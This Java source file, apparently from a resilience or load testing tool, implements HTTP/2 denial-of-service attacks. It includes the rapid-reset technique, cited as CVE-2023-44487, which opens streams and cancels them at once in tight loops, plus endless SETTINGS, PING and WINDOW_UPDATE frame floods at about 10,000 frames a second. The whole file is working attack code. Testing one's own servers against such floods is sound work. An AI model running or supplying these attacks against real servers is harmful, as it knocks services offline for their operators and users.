import java.io.IOException;
import java.time.Duration;
import java.util.List;

/// Attacks with frames of HTTP/2 that cost a client nothing, and each some work, or an answer that
/// waits to be sent.
final class FrameAttacks {
  static final List<Attack> ALL =
      List.of(
          new Attack("h2-rapid-reset", Wire.Protocol.HTTP_2, 10, FrameAttacks::rapidReset)
              .restless(),
          flood("h2-settings-flood", Http2.SETTINGS, new byte[0]),
          flood("h2-ping-flood", Http2.PING, new byte[8]),
          flood("h2-window-flood", Http2.WINDOW_UPDATE, Http2.number(1)));

  private static final int BATCH = 100;
  private static final Duration PAUSE = Duration.ofMillis(10); // 10,000 frames a second

  private FrameAttacks() {}

  /// CVE-2023-44487.
  private static void rapidReset(Wire wire) throws IOException, InterruptedException {
    var http2 = new Http2(wire, Http2.WINDOW).reading();
    var block = Hpack.get("/openapi.yml").bytes();
    while (true) {
      for (int i = 0; i < BATCH; i++) {
        int stream = http2.begin(Http2.END_HEADERS | Http2.END_STREAM, block);
        http2.frame(Http2.RST_STREAM, 0, stream, Http2.number(8)); // CANCEL
      }
      http2.flush();
      http2.pause(PAUSE);
    }
  }

  /// Of the whole connection, by clients that do not read what comes back.
  private static Attack flood(String name, int type, byte[] payload) {
    Attack.Course course =
        wire -> {
          var http2 = new Http2(wire, Http2.WINDOW);
          while (true) {
            for (int i = 0; i < BATCH; i++) {
              http2.frame(type, 0, 0, payload);
            }
            http2.flush();
            Thread.sleep(PAUSE);
          }
        };
    return new Attack(name, Wire.Protocol.HTTP_2, 10, course).narrow().restless();
  }
}
